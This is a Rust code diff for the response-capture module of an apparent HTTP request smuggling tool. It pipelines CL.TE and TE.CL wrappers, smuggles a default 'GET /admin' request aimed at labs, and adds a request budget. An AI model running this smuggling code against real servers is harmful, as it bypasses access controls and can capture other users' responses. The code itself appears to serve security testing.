@@ -10,9 +10,19 @@
 
 use colored::*;
 
+use super::ExploitBudget;
 use super::smuggle::{TE_VARIANTS, build_clte, build_tecl};
 use crate::error::Result;
-use crate::http::{pipeline_requests, send_request};
+use crate::http::{HttpResponse, pipeline_requests, send_request};
+
+/// Follow-up GETs pipelined behind each wrapper.
+pub const CAPTURE_FOLLOW_UPS: usize = 3;
+
+/// Request smuggled and captured when `--smuggle-request` is not given: the
+/// `GET /admin` recon step the access-control labs need.
+pub fn default_capture_request(host: &str) -> String {
+    format!("GET /admin HTTP/1.1\r\nHost: {}\r\n\r\n", host)
+}
 
 pub struct CaptureParams<'a> {
     pub host: &'a str,
@@ -26,6 +36,8 @@ pub struct CaptureParams<'a> {
     pub smuggled_request: String,
     /// How many follow-up GETs to send (the response offset depth to scan).
     pub follow_ups: usize,
+    /// Caps shared with the other exploits
+    pub budget: &'a ExploitBudget,
 }
 
 #[derive(Debug)]
@@ -37,14 +49,6 @@ pub struct CaptureResult {
     pub observations: Vec<String>,
 }
 
-fn status_line(resp: &str) -> &str {
-    resp.lines().next().unwrap_or("")
-}
-
-fn body(resp: &str) -> &str {
-    resp.split_once("\r\n\r\n").map(|(_, b)| b).unwrap_or("")
-}
-
 /// A follow-up response is a likely capture when it differs from the normal
 /// baseline GET — a different status line, or a body size off by >20%.
 fn diverges_from_baseline(resp: &str, base_status: &str, base_body_len: usize) -> bool {
@@ -57,10 +61,11 @@ fn diverges_from_baseline(resp: &str, base_status: &str, base_body_len: usize) -
     // fabricating a capture on a flaky/unreachable target. The body-size branch
     // below is already gated by `base_body_len > 0`, so an unavailable baseline
     // now yields no false capture.
-    if !base_status.is_empty() && status_line(resp) != base_status {
+    let parsed = HttpResponse::parse(resp.as_bytes());
+    if !base_status.is_empty() && parsed.status_line != base_status {
         return true;
     }
-    let bl = body(resp).len() as i64;
+    let bl = parsed.len_after_head() as i64;
     let diff = (bl - base_body_len as i64).unsigned_abs() as usize;
     base_body_len > 0 && diff * 5 > base_body_len // >20%
 }
@@ -71,6 +76,16 @@ pub async fn test_capture(params: &CaptureParams<'_>) -> Result<CaptureResult> {
         "GET {} HTTP/1.1\r\nHost: {}\r\nConnection: keep-alive\r\n\r\n",
         params.path, params.host
     );
+    if !params.budget.take(1) {
+        return Ok(CaptureResult {
+            captured: None,
+            via: None,
+            observations: vec![format!(
+                "{}; nothing sent",
+                params.budget.exhausted_reason()
+            )],
+        });
+    }
     let (base_status, base_body_len) = match send_request(
         params.host,
         params.port,
@@ -81,7 +96,11 @@ pub async fn test_capture(params: &CaptureParams<'_>) -> Result<CaptureResult> {
     )
     .await
     {
-        Ok((resp, _)) => (status_line(&resp).to_string(), body(&resp).len()),
+        Ok((resp, _)) => {
+            let parsed = HttpResponse::parse(resp.as_bytes());
+            let body_len = parsed.len_after_head();
+            (parsed.status_line, body_len)
+        }
         Err(_) => (String::new(), 0),
     };
 
@@ -100,6 +119,19 @@ pub async fn test_capture(params: &CaptureParams<'_>) -> Result<CaptureResult> {
             ("CL.TE", build_clte(params.host, params.path, inner, te)),
             ("TE.CL", build_tecl(params.host, params.path, inner, te)),
         ] {
+            if !params.budget.take(1 + params.follow_ups) {
+                observations.push(format!(
+                    "{}; stopped before {} [TE:{}]",
+                    params.budget.exhausted_reason(),
+                    shape,
+                    vlabel
+                ));
+                return Ok(CaptureResult {
+                    captured: None,
+                    via: None,
+                    observations,
+                });
+            }
             let mut reqs = vec![wrapper];
             for _ in 0..params.follow_ups {
                 reqs.push(get.clone());
@@ -117,13 +149,14 @@ pub async fn test_capture(params: &CaptureParams<'_>) -> Result<CaptureResult> {
             // Scan the follow-up responses (offset >= 1) for the smuggled one.
             for (i, resp) in responses.iter().enumerate().skip(1) {
                 if diverges_from_baseline(resp, &base_status, base_body_len) {
+                    let parsed = HttpResponse::parse(resp.as_bytes());
                     observations.push(format!(
                         "{} [TE:{}] offset {}: {} ({} body bytes) <- captured",
                         shape,
                         vlabel,
                         i,
-                        status_line(resp),
-                        body(resp).len()
+                        parsed.status_line,
+                        parsed.len_after_head()
                     ));
                     return Ok(CaptureResult {
                         captured: Some(resp.clone()),
@@ -135,7 +168,7 @@ pub async fn test_capture(params: &CaptureParams<'_>) -> Result<CaptureResult> {
             let tail: Vec<String> = responses
                 .iter()
                 .skip(1)
-                .map(|r| status_line(r).to_string())
+                .map(|r| HttpResponse::parse(r.as_bytes()).status_line)
                 .collect();
             observations.push(format!(
                 "{} [TE:{}]: follow-ups [{}]",